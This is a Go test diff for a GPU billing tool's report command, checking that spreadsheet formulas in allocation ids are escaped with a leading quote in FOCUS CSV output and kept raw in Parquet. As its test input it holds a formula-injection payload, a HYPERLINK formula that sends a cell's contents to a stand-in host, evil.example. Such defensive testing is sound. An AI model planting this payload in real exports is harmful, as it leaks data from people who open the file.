@@ -9,6 +9,7 @@ import (
 	"path/filepath"
 	"slices"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -83,5 +84,59 @@ func TestReportLineItemsAndFOCUS(t *testing.T) {
 	pq := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.file-format", "parquet")...).Stdout
 	if !bytes.HasPrefix([]byte(pq), []byte("PAR1")) || !bytes.HasSuffix([]byte(pq), []byte("PAR1")) {
 		t.Errorf("--focus.file-format parquet: not a Parquet file (%d bytes)", len(pq))
+	}
+}
+
+// TestFOCUSFormulaCells: an allocation id a spreadsheet would evaluate (here the scenario's
+// name, which every allocation id of the demo starts with) comes out of `report --format
+// focus` with a leading ' in x_AllocationId and ChargeDescription, as in the other CSV
+// reports; the Parquet export keeps it raw.
+//
+//	go test -count=1 -run TestFOCUSFormulaCells ./e2e/
+func TestFOCUSFormulaCells(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
+	defer cancel()
+	const formula = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
+	file := writeFile(t, "formula.yaml", `version: 1
+name: '`+formula+`'
+start: "2026-01-05T00:00:00Z"
+duration: 5m
+interval: 1s
+currency: USD
+prices: {H100-SXM5-80GB: 2.40}
+tiers: {pro: 1.0}
+nodes:
+  - name: node-a
+    gpus:
+      - {model: H100-SXM5-80GB}
+tenants:
+  - name: acme
+    tier: pro
+    allocations:
+      - {target: node-a/gpu0, requested: 0s, ready: 5s, end: 5m, workload: {sm: 0.5, mem: 0.5}}
+`)
+	sc := loadScenario(t, file)
+	dsn := localtest.DatabaseWith(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
+	apptest.Demo(t, ctx, "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
+	window := scenarioWindow(file, sc)
+
+	rows := parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--format", "focus")...).Stdout)
+	id, desc, usage := slices.Index(rows[0], "x_AllocationId"), slices.Index(rows[0], "ChargeDescription"), 0
+	for _, r := range rows[1:] {
+		if r[id] == "" {
+			continue
+		}
+		usage++
+		if !strings.HasPrefix(r[id], "'"+formula) || !strings.HasPrefix(r[desc], "'"+formula) {
+			t.Errorf("x_AllocationId %q, ChargeDescription %q: want both to start with '%s", r[id], r[desc], formula)
+		}
+	}
+	if usage == 0 {
+		t.Fatalf("no row with an allocation id:\n%v", rows)
+	}
+
+	pq := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.file-format", "parquet")...).Stdout
+	if !strings.Contains(pq, formula+"/acme/0") || strings.Contains(pq, "'"+formula) {
+		t.Errorf("the Parquet export lacks the raw allocation id %q", formula+"/acme/0")
 	}
 }
